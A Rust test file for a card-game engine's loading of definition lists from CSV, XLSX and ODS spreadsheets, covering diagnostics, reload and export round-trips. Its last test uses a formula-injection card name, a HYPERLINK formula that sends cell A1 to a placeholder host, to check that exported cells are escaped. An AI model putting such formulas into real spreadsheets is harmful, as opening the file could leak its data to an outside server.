//! Definition lists kept in spreadsheets: CSV, XLSX and ODS files load to the same
//! definitions as TOML; mistakes are reported at their file, row and column; a changed
//! sheet reloads; `crown export csv` writes every shipped pack's lists so that they load
//! back unchanged.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::Path;

use crown_engine::content::model::{CardFile, Definition};
use crown_engine::content::Pack;
use crown_engine::diag::Diagnostic;
use crown_engine::load::{load_pack, LoadOptions, Loader, Project};

fn crown(args: &[&str]) -> i32 {
    let mut v = vec!["crown"];
    v.extend_from_slice(args);
    crown_tools::run(v)
}

const PACK: &str = r#"#:schema ../../docs/schema/pack.schema.json
id = "sheets"
name = "Sheets"
version = "0.1.0"
players = { min = 2, max = 2 }
[vocabulary.card]
values = { attack = [0, 9] }
keywords = ["siege", "troops"]
"#;

/// A project holding pack `sheets` with these files (paths under content/sheets/).
fn project(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let pack = dir.path().join("content/sheets");
    std::fs::create_dir_all(pack.join("cards")).unwrap();
    std::fs::write(pack.join("pack.toml"), PACK).unwrap();
    for (rel, bytes) in files {
        std::fs::write(pack.join(rel), bytes).unwrap();
    }
    let scripts = dir.path().join("scripts/sheets");
    std::fs::create_dir_all(&scripts).unwrap();
    std::fs::write(scripts.join("rules.rhai"), "fn setup() {}\nfn turn() { end_game([], \"test\"); }\n").unwrap();
    dir
}

fn load(root: &Path, id: &str) -> (Option<Pack>, Vec<Diagnostic>) {
    let loaded = load_pack(&Project::new(root), id, LoadOptions { compile_scripts: false });
    (loaded.pack, loaded.diagnostics)
}

/// The good list, as TOML would write it.
const CARDS_TOML: &str = r#"
[[card]]
id = "ram"
name = "Battering Ram"
kind = "attack"
count = 2
keywords = ["siege", "troops"]
values = { attack = 3 }
cost = { wood = 1 }
attrs = { faction = "danes" }
text = "Hit a wall, hard.\nThen again."

[[card]]
id = "scout"
name = "Scout"
kind = "action"
text = "Look at the top card."
"#;

const CARDS_CSV: &str = "id,name,kind,count,keywords,value.attack,cost.wood,attr.faction,text\r\n\
ram,Battering Ram,attack,2,\"siege, troops\",3,1,danes,\"Hit a wall, hard.\nThen again.\"\r\n\
# a comment: rows starting with # are skipped, and so are empty ones\r\n\
,,,,,,,,\r\n\
scout,Scout,action,,,,,,Look at the top card.\r\n";

/// A cell of a generated workbook.
#[derive(Clone, Copy)]
enum C<'a> {
    S(&'a str),
    N(f64),
    E,
    /// A formula with no saved result, as a script library (openpyxl) writes it.
    F(&'a str),
    /// A formula with its saved result, as a spreadsheet program writes it.
    Fv(&'a str, f64),
}

fn esc(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// An XLSX or ODS workbook (`ext`) whose first sheet holds `rows`; a second sheet of notes
/// is never read.
fn workbook(ext: &str, rows: &[Vec<C<'_>>]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut put = |name: &str, text: &str| {
        zip.start_file(name, opts).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    };
    if ext == "xlsx" {
        let col = |i: usize| ((b'A' + i as u8) as char).to_string();
        let sheet = |rows: &[Vec<C<'_>>]| {
            let mut x = String::from(
                r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#,
            );
            for (r, row) in rows.iter().enumerate() {
                x.push_str(&format!("<row r=\"{}\">", r + 1));
                for (c, cell) in row.iter().enumerate() {
                    let at = format!("{}{}", col(c), r + 1);
                    match cell {
                        C::S(s) => x.push_str(&format!(
                            "<c r=\"{at}\" t=\"inlineStr\"><is><t xml:space=\"preserve\">{}</t></is></c>",
                            esc(s)
                        )),
                        C::N(n) => x.push_str(&format!("<c r=\"{at}\"><v>{n}</v></c>")),
                        C::F(f) => x.push_str(&format!("<c r=\"{at}\"><f>{}</f><v></v></c>", esc(f))),
                        C::Fv(f, n) => x.push_str(&format!("<c r=\"{at}\"><f>{}</f><v>{n}</v></c>", esc(f))),
                        C::E => {}
                    }
                }
                x.push_str("</row>");
            }
            x.push_str("</sheetData></worksheet>");
            x
        };
        put(
            "[Content_Types].xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        );
        put(
            "_rels/.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        );
        put(
            "xl/workbook.xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Cards" sheetId="1" r:id="rId1"/><sheet name="Notes" sheetId="2" r:id="rId2"/></sheets></workbook>"#,
        );
        put(
            "xl/_rels/workbook.xml.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet2.xml"/></Relationships>"#,
        );
        put("xl/worksheets/sheet1.xml", &sheet(rows));
        put("xl/worksheets/sheet2.xml", &sheet(&[vec![C::S("not"), C::S("read")]]));
    } else {
        put("mimetype", "application/vnd.oasis.opendocument.spreadsheet");
        put(
            "META-INF/manifest.xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#,
        );
        let table = |name: &str, rows: &[Vec<C<'_>>]| {
            let mut x = format!("<table:table table:name=\"{name}\">");
            for row in rows {
                x.push_str("<table:table-row>");
                for cell in row {
                    match cell {
                        C::S(s) => {
                            x.push_str("<table:table-cell office:value-type=\"string\">");
                            for line in s.split('\n') {
                                x.push_str(&format!("<text:p>{}</text:p>", esc(line)));
                            }
                            x.push_str("</table:table-cell>");
                        }
                        C::N(n) => x.push_str(&format!("<table:table-cell office:value-type=\"float\" office:value=\"{n}\"><text:p>{n}</text:p></table:table-cell>")),
                        C::F(f) => x.push_str(&format!("<table:table-cell table:formula=\"of:={}\"/>", esc(f))),
                        C::Fv(f, n) => x.push_str(&format!("<table:table-cell table:formula=\"of:={}\" office:value-type=\"float\" office:value=\"{n}\"><text:p>{n}</text:p></table:table-cell>", esc(f))),
                        C::E => x.push_str("<table:table-cell/>"),
                    }
                }
                x.push_str("</table:table-row>");
            }
            x.push_str("</table:table>");
            x
        };
        put(
            "content.xml",
            &format!(
                r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet>{}{}</office:spreadsheet></office:body></office:document-content>"#,
                table("Cards", rows),
                table("Notes", &[vec![C::S("not"), C::S("read")]])
            ),
        );
    }
    zip.finish().unwrap().into_inner()
}

fn good_rows() -> Vec<Vec<C<'static>>> {
    use C::*;
    vec![
        vec![
            S("id"),
            S("name"),
            S("kind"),
            S("count"),
            S("keywords"),
            S("value.attack"),
            S("cost.wood"),
            S("attr.faction"),
            S("text"),
        ],
        vec![
            S("ram"),
            S("Battering Ram"),
            S("attack"),
            N(2.0),
            S("siege, troops"),
            N(3.0),
            N(1.0),
            S("danes"),
            S("Hit a wall, hard.\nThen again."),
        ],
        vec![E, E, E, E, E, E, E, E, E],
        vec![S("scout"), S("Scout"), S("action"), E, E, E, E, E, S("Look at the top card.")],
    ]
}

fn defs_by_id(pack: &Pack) -> BTreeMap<String, Definition> {
    pack.defs.iter().map(|d| (d.def.id.clone(), d.def.clone())).collect()
}

#[test]
fn csv_xlsx_and_ods_lists_load_to_the_same_definitions_as_toml() {
    let expected: BTreeMap<String, Definition> =
        toml::from_str::<CardFile>(CARDS_TOML).unwrap().card.into_iter().map(|d| (d.id.clone(), d)).collect();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("cards/list.csv", CARDS_CSV.as_bytes().to_vec()),
        ("cards/list.xlsx", workbook("xlsx", &good_rows())),
        ("cards/list.ods", workbook("ods", &good_rows())),
        ("cards.csv", CARDS_CSV.as_bytes().to_vec()),
        // A spreadsheet in a locale with a decimal comma writes semicolons.
        (
            "cards/semi.csv",
            "id;name;kind;count;keywords;value.attack;cost.wood;attr.faction;text\n\
             ram;Battering Ram;attack;2;siege, troops;3;1;danes;\"Hit a wall, hard.\nThen again.\"\n\
             scout;Scout;action;;;;;;Look at the top card.\n"
                .as_bytes()
                .to_vec(),
        ),
    ];
    for (rel, bytes) in cases {
        let dir = project(&[(rel, &bytes)]);
        let (pack, diags) = load(dir.path(), "sheets");
        let pack = pack.unwrap_or_else(|| panic!("{rel}: {diags:#?}"));
        assert!(diags.is_empty(), "{rel}: {diags:#?}");
        assert_eq!(defs_by_id(&pack), expected, "{rel}");
        let ram = pack.get("ram").unwrap();
        assert_eq!(ram.origin.file, Path::new("content/sheets").join(rel));
        assert_eq!(crown(&["--project", dir.path().to_str().unwrap(), "check", "sheets", "--quiet"]), 0, "{rel}");
    }
}

/// The diagnostic with this code, and where it points.
fn find<'a>(diags: &'a [Diagnostic], code: &str) -> &'a Diagnostic {
    diags.iter().find(|d| d.code == code).unwrap_or_else(|| panic!("no {code} in {diags:#?}"))
}

#[test]
fn mistakes_are_reported_at_their_file_row_and_column() {
    let csv = "id,name,kind,count,keywords,value.atack\n\
               ok,Fine,action,1,siege,1\n\
               bad,Bad,action,three,siege,\n\
               typo,Typo,action,1,\"troops, sieeg\",\n\
               ram,Ram,action,1,,\n";
    let dir = project(&[
        ("cards/list.csv", csv.as_bytes()),
        ("cards/more.toml", b"[[card]]\nid = \"ram\"\nname = \"Ram\"\nkind = \"attack\"\n"),
    ]);
    let (pack, diags) = load(dir.path(), "sheets");
    assert!(pack.is_none());
    let file = Path::new("content/sheets/cards/list.csv");
    // A count that is not a number: row 3, column D.
    let d = find(&diags, "wrong-type");
    assert_eq!((d.file.as_deref(), d.line, d.column), (Some(file), 3, 16), "{d:#?}");
    assert_eq!(d.label.as_deref(), Some("row 3, column D (count)"));
    // A keyword the vocabulary does not declare: at the word, row 4, column E.
    let d = diags.iter().find(|d| d.code == "vocabulary" && d.message.contains("sieeg")).expect("keyword");
    assert_eq!((d.line, d.label.as_deref()), (4, Some("row 4, column E (keywords)")), "{d:#?}");
    assert!(d.hint.as_deref().unwrap_or("").contains("siege"), "{d:#?}");
    // A misspelt value column: one error at the header cell (not one per row that fills
    // it), with the declared name as a did-you-mean.
    let atack: Vec<_> = diags.iter().filter(|d| d.message.contains("atack")).collect();
    assert_eq!(atack.len(), 1, "{atack:#?}");
    let d = atack.first().expect("one");
    assert_eq!((d.code, d.line, d.column), ("vocabulary", 1, 29), "{d:#?}");
    assert_eq!(d.label.as_deref(), Some("row 1, column F (value.atack)"));
    assert!(
        d.message.contains("(1 row fills it)") && d.hint.as_deref() == Some("did you mean `value.attack`?"),
        "{d:#?}"
    );
    // The same id in the sheet and in a TOML file: both places named.
    let d = find(&diags, "duplicate-id");
    assert!(d.file.as_deref() == Some(file) || d.related.iter().any(|r| r.file == file), "{d:#?}");

    // The sheet's own mistakes: an unknown column, stages, an unclosed quote, a cell past
    // the last column.
    for (csv, code, line, label) in [
        ("id,nmae\na,A\n", "unknown-column", 1, Some("row 1, column B (nmae)")),
        ("id,name,stages\na,A,x\n", "unknown-column", 1, Some("row 1, column C (stages)")),
        ("id,name,text\na,A,\"open\n", "csv-syntax", 2, None),
        ("id,name\na,A,extra\n", "cell-outside-columns", 2, Some("row 2, column C")),
    ] {
        let dir = project(&[("cards/list.csv", csv.as_bytes())]);
        let (_, diags) = load(dir.path(), "sheets");
        let d = find(&diags, code);
        assert_eq!((d.file.as_deref(), d.line, d.label.as_deref()), (Some(file), line, label), "{csv}: {d:#?}");
    }
    let dir = project(&[("cards/list.csv", b"id,nmae\na,A\n")]);
    let d = load(dir.path(), "sheets").1.into_iter().find(|d| d.code == "unknown-column").unwrap();
    assert!(d.message.contains("did you mean `name`"), "{d:#?}");

    // In a workbook, the line is the sheet's row.
    use C::*;
    let rows =
        vec![vec![S("id"), S("name"), S("count")], vec![S("a"), S("A"), N(1.0)], vec![S("b"), S("B"), S("three")]];
    for ext in ["xlsx", "ods"] {
        let dir = project(&[(&format!("cards/list.{ext}"), &workbook(ext, &rows))]);
        let (_, diags) = load(dir.path(), "sheets");
        let d = find(&diags, "wrong-type");
        assert_eq!(d.file.as_deref(), Some(Path::new(&format!("content/sheets/cards/list.{ext}"))));
        assert_eq!((d.line, d.label.as_deref()), (3, Some("row 3, column C (count)")), "{ext}: {d:#?}");
    }
    // Not a workbook at all.
    let dir = project(&[("cards/list.xlsx", b"this is text")]);
    let d = find(&load(dir.path(), "sheets").1, "unreadable").clone();
    assert!(d.file.as_deref().is_some_and(|f| f.ends_with("list.xlsx")), "{d:#?}");
    // Office lock files are not lists.
    let dir = project(&[("cards/list.csv", CARDS_CSV.as_bytes()), ("cards/~$list.xlsx", b"lock")]);
    assert!(load(dir.path(), "sheets").1.is_empty());
}

#[test]
fn a_formula_without_a_saved_result_is_an_error_naming_its_cell() {
    use C::*;
    let rows = vec![
        vec![S("id"), S("name"), S("count")],
        vec![S("a"), S("A"), Fv("1+1", 2.0)],
        vec![S("b"), S("B"), N(1.0)],
        vec![S("c"), S("C"), F("2*2")],
    ];
    for ext in ["xlsx", "ods"] {
        let dir = project(&[(&format!("cards/list.{ext}"), &workbook(ext, &rows))]);
        let (pack, diags) = load(dir.path(), "sheets");
        assert!(pack.is_none(), "{ext}: a count read as empty would silently be 1");
        let d = find(&diags, "formula-without-value");
        assert_eq!(diags.iter().filter(|d| d.is_error()).count(), 1, "{ext}: {diags:#?}");
        assert!(d.message.contains("`=2*2` in sheet `Cards`, row 4, column C"), "{ext}: {}", d.message);
        assert!(d.hint.as_deref().is_some_and(|h| h.contains("computes formulas")), "{ext}: {d:#?}");
        assert_eq!((d.line, d.label.as_deref()), (4, Some("row 4, column C (count)")), "{ext}: {d:#?}");
        // The saved result of a formula is read as any value.
        let dir = project(&[(&format!("cards/list.{ext}"), &workbook(ext, &rows[..3]))]);
        let pack = load(dir.path(), "sheets").0.unwrap_or_else(|| panic!("{ext}"));
        assert_eq!(pack.get("a").unwrap().def.count, 2, "{ext}");
    }
}

#[test]
fn rows_are_named_as_the_sheet_numbers_them_and_values_are_found_in_their_row() {
    // A cell holding a line break takes two lines of the file and one row of the sheet.
    let csv = "id,name,text,value.attack,count\n\
               a,A,\"two\nlines\",1,1\n\
               b,B,plain,12,one\n";
    let dir = project(&[("cards/list.csv", csv.as_bytes())]);
    let (_, diags) = load(dir.path(), "sheets");
    let d = find(&diags, "wrong-type");
    assert_eq!((d.line, d.column, d.label.as_deref()), (4, 14, Some("row 3, column E (count)")), "{d:#?}");
    // A value outside its declared range: at the value, in its row (not at the header).
    let csv = "id,name,text,value.attack\n\
               a,A,\"two\nlines\",1\n\
               b,B,plain,12\n";
    let dir = project(&[("cards/list.csv", csv.as_bytes())]);
    let (_, diags) = load(dir.path(), "sheets");
    let d = find(&diags, "vocabulary");
    assert!(d.message.contains("outside its range"), "{d:#?}");
    assert_eq!((d.line, d.column, d.label.as_deref()), (4, 11, Some("row 3, column D (value.attack)")), "{d:#?}");
    // The same in a workbook, where lines are rows.
    use C::*;
    let rows =
        vec![vec![S("id"), S("name"), S("value.attack")], vec![S("a"), S("A"), N(1.0)], vec![S("b"), S("B"), N(12.0)]];
    for ext in ["xlsx", "ods"] {
        let dir = project(&[(&format!("cards/list.{ext}"), &workbook(ext, &rows))]);
        let d = find(&load(dir.path(), "sheets").1, "vocabulary").clone();
        assert_eq!((d.line, d.label.as_deref()), (3, Some("row 3, column C (value.attack)")), "{ext}: {d:#?}");
    }
}

#[test]
fn a_changed_sheet_reloads_and_only_it_is_parsed_again() {
    let dir = project(&[
        ("cards/list.csv", CARDS_CSV.as_bytes()),
        ("cards/book.xlsx", &workbook("xlsx", &[vec![C::S("id"), C::S("name")], vec![C::S("x"), C::S("X")]])),
    ]);
    let mut loader = Loader::new(&Project::new(dir.path()), "sheets", LoadOptions { compile_scripts: false });
    let first = loader.load();
    assert_eq!(first.pack.as_ref().unwrap().get("ram").unwrap().def.count, 2);
    assert!(loader.stats().files_parsed >= 3);
    let again = loader.load();
    assert!(again.pack.is_some());
    assert_eq!(loader.stats().files_parsed, 0, "nothing changed, nothing parsed");
    std::fs::write(dir.path().join("content/sheets/cards/list.csv"), CARDS_CSV.replace("attack,2,", "attack,5,"))
        .unwrap();
    let third = loader.load();
    assert_eq!(third.pack.as_ref().unwrap().get("ram").unwrap().def.count, 5);
    assert_eq!(loader.stats().files_parsed, 1);
    std::fs::write(
        dir.path().join("content/sheets/cards/book.xlsx"),
        workbook("xlsx", &[vec![C::S("id"), C::S("name")], vec![C::S("x"), C::S("Renamed")]]),
    )
    .unwrap();
    let fourth = loader.load();
    assert_eq!(fourth.pack.as_ref().unwrap().get("x").unwrap().def.name, "Renamed");
    assert_eq!(loader.stats().files_parsed, 1);
    // `crown watch` sees a sheet as a definition file.
    let change = crown_tools::live::classify(dir.path(), &dir.path().join("content/sheets/cards/list.csv")).unwrap();
    assert_eq!(change.kind, crown_tools::live::ChangeKind::Definition);
}

/// Copy shipped packs (content and scripts) into a temporary project.
fn copy_of_shipped(packs: &[&str]) -> tempfile::TempDir {
    let root = crate::common::repo_project().root;
    let dir = tempfile::tempdir().unwrap();
    for pack in packs {
        for top in ["content", "scripts"] {
            let from = root.join(top).join(pack);
            for e in walkdir::WalkDir::new(&from).into_iter().flatten() {
                let to = dir.path().join(top).join(pack).join(e.path().strip_prefix(&from).unwrap());
                if e.file_type().is_dir() {
                    std::fs::create_dir_all(&to).unwrap();
                } else {
                    std::fs::copy(e.path(), &to).unwrap();
                }
            }
        }
    }
    dir
}

#[test]
fn export_csv_writes_lists_that_load_back_unchanged() {
    for id in ["take-the-kingdom", "the-last-kingdom", "kingdoms-in-conflict"] {
        let dir = copy_of_shipped(&[id]);
        let root = dir.path().to_str().unwrap();
        let (before, _) = load(dir.path(), id);
        let before = before.unwrap();
        assert_eq!(crown(&["--project", root, "export", "csv", id]), 0, "{id}");
        // Swap every TOML list for the exported CSV.
        let pack_dir = dir.path().join("content").join(id);
        let export = dir.path().join("build/export").join(id);
        for e in std::fs::read_dir(&export).unwrap().flatten() {
            let name = e.file_name().to_string_lossy().to_string();
            let to = match name.as_str() {
                "cards.csv" => {
                    for t in std::fs::read_dir(pack_dir.join("cards")).unwrap().flatten() {
                        std::fs::remove_file(t.path()).unwrap();
                    }
                    pack_dir.join("cards/all.csv")
                }
                other => {
                    std::fs::remove_file(pack_dir.join(other.replace(".csv", ".toml"))).unwrap();
                    pack_dir.join(other)
                }
            };
            std::fs::copy(e.path(), to).unwrap();
        }
        let (after, diags) = load(dir.path(), id);
        let after = after.unwrap_or_else(|| panic!("{id}: {diags:#?}"));
        assert_eq!(defs_by_id(&after), defs_by_id(&before), "{id}");
        for d in &after.defs {
            assert!(d.origin.file.extension().is_some_and(|x| x == "csv"), "{}", d.origin.file.display());
        }
        assert_eq!(crown(&["--project", root, "check", id, "--quiet"]), 0, "{id}");
        // And back to TOML.
        assert_eq!(crown(&["--project", root, "export", "toml", id]), 0, "{id}");
        for e in std::fs::read_dir(&export).unwrap().flatten() {
            let name = e.file_name().to_string_lossy().to_string();
            let Some(stem) = name.strip_suffix(".toml") else { continue };
            let (from, to) = match stem {
                "cards" => (pack_dir.join("cards/all.csv"), pack_dir.join("cards/all.toml")),
                other => (pack_dir.join(format!("{other}.csv")), pack_dir.join(&name)),
            };
            std::fs::remove_file(from).unwrap();
            std::fs::copy(e.path(), to).unwrap();
        }
        let (again, diags) = load(dir.path(), id);
        let again = again.unwrap_or_else(|| panic!("{id}: {diags:#?}"));
        assert_eq!(defs_by_id(&again), defs_by_id(&before), "{id}: back to TOML");
    }
    // Multi-stage cards stay in TOML: said, and nothing written.
    let dir = copy_of_shipped(&["kingdom-legacy"]);
    let root = dir.path().to_str().unwrap();
    let out = dir.path().join("kl.csv");
    assert_eq!(
        crown(&[
            "--project",
            root,
            "export",
            "csv",
            "kingdom-legacy",
            "--kind",
            "card",
            "--out",
            out.to_str().unwrap()
        ]),
        1
    );
    assert!(!out.exists());
    // So do tiles (Crownfields): their cells would be lost.
    let dir = copy_of_shipped(&["crownfields"]);
    let root = dir.path().to_str().unwrap();
    let out = dir.path().join("tiles.csv");
    assert_eq!(crown(&["--project", root, "export", "csv", "crownfields", "--out", out.to_str().unwrap()]), 1);
    assert!(!out.exists());
}

#[test]
fn export_xlsx_writes_a_workbook_that_loads_back_identically() {
    let id = "take-the-kingdom";
    let dir = copy_of_shipped(&[id]);
    let root = dir.path().to_str().unwrap();
    let (before, _) = load(dir.path(), id);
    let before = before.unwrap();
    let book = dir.path().join("cards.xlsx");
    let args = ["--project", root, "export", "xlsx", id, "--kind", "card", "--out", book.to_str().unwrap()];
    assert_eq!(crown(&args), 0);
    // A workbook: the first sheet named after the kind, the header, a row per card, whole
    // numbers as numbers (not text a spreadsheet would flag).
    use calamine::{Data, Reader};
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&book).unwrap();
    assert_eq!(wb.sheet_names(), ["cards"]);
    let range = wb.worksheet_range("cards").unwrap();
    let header: Vec<String> = range.rows().next().unwrap().iter().map(|c| c.to_string()).collect();
    assert_eq!(&header[..4], ["id", "name", "kind", "count"]);
    let cards: Vec<_> = before.defs.iter().filter(|d| d.kind == crown_engine::content::DefKind::Card).collect();
    assert_eq!(range.height(), cards.len() + 1);
    assert!(matches!(range.get_value((1, 3)), Some(Data::Float(_))), "{:?}", range.get_value((1, 3)));
    // In place of the TOML lists, the workbook loads to the same definitions.
    let pack_dir = dir.path().join("content").join(id);
    for t in std::fs::read_dir(pack_dir.join("cards")).unwrap().flatten() {
        std::fs::remove_file(t.path()).unwrap();
    }
    std::fs::copy(&book, pack_dir.join("cards/all.xlsx")).unwrap();
    let (after, diags) = load(dir.path(), id);
    let after = after.unwrap_or_else(|| panic!("{diags:#?}"));
    assert_eq!(defs_by_id(&after), defs_by_id(&before));
    assert!(after.defs.iter().filter(|d| d.kind == crown_engine::content::DefKind::Card).all(|d| d
        .origin
        .file
        .extension()
        .is_some_and(|x| x == "xlsx")));
    assert_eq!(crown(&["--project", root, "check", id, "--quiet"]), 0);
}

#[test]
fn export_csv_bom_is_for_excel_and_reads_back_the_same() {
    let id = "the-last-kingdom";
    let dir = copy_of_shipped(&[id]);
    let root = dir.path().to_str().unwrap();
    let (before, _) = load(dir.path(), id);
    let before = before.unwrap();
    let (plain, marked) = (dir.path().join("plain.csv"), dir.path().join("marked.csv"));
    let export = |out: &Path, bom: bool| {
        let mut args = vec!["--project", root, "export", "csv", id, "--kind", "card", "--out", out.to_str().unwrap()];
        if bom {
            args.push("--bom");
        }
        assert_eq!(crown(&args), 0);
        std::fs::read(out).unwrap()
    };
    let (a, b) = (export(&plain, false), export(&marked, true));
    assert!(!a.starts_with(b"\xef\xbb\xbf"), "no mark unless asked");
    assert_eq!(&b[..3], b"\xef\xbb\xbf");
    assert_eq!(&b[3..], &a[..], "the mark and then the same text");
    let pack_dir = dir.path().join("content").join(id);
    for t in std::fs::read_dir(pack_dir.join("cards")).unwrap().flatten() {
        std::fs::remove_file(t.path()).unwrap();
    }
    std::fs::copy(&marked, pack_dir.join("cards/all.csv")).unwrap();
    let (after, diags) = load(dir.path(), id);
    let after = after.unwrap_or_else(|| panic!("{diags:#?}"));
    assert_eq!(defs_by_id(&after), defs_by_id(&before));
}

#[test]
fn a_name_a_spreadsheet_would_run_is_exported_as_text_and_read_back_the_same() {
    // A shared pack's card named like a formula: `crown export csv` writes a cell a
    // spreadsheet shows as text, and Crown reads it back to the same name.
    let cards = CARDS_TOML
        .replace("name = \"Battering Ram\"", "name = \"=1+1\"")
        .replace("name = \"Scout\"", "name = \"=HYPERLINK(\\\"http://example.invalid/?x=\\\"&A1,\\\"Deny\\\")\"");
    let dir = project(&[("cards/cards.toml", cards.as_bytes())]);
    let root = dir.path().to_str().unwrap();
    let (before, diags) = load(dir.path(), "sheets");
    let before = before.unwrap_or_else(|| panic!("{diags:#?}"));
    assert!(
        diags.iter().filter(|d| d.code == "formula-like-text").count() == 2,
        "check warns at each name that begins like a formula: {diags:#?}"
    );
    assert_eq!(crown(&["--project", root, "export", "csv", "sheets"]), 0);
    let csv = std::fs::read_to_string(dir.path().join("build/export/sheets/cards.csv")).unwrap();
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '@']), "a cell a spreadsheet runs: {line}");
        }
    }
    assert!(csv.contains("'=1+1"), "{csv}");
    let pack_dir = dir.path().join("content/sheets");
    std::fs::remove_file(pack_dir.join("cards/cards.toml")).unwrap();
    std::fs::write(pack_dir.join("cards/cards.csv"), &csv).unwrap();
    let (after, diags) = load(dir.path(), "sheets");
    let after = after.unwrap_or_else(|| panic!("{diags:#?}"));
    assert_eq!(defs_by_id(&after), defs_by_id(&before));
    assert_eq!(defs_by_id(&after)["ram"].name, "=1+1");
}
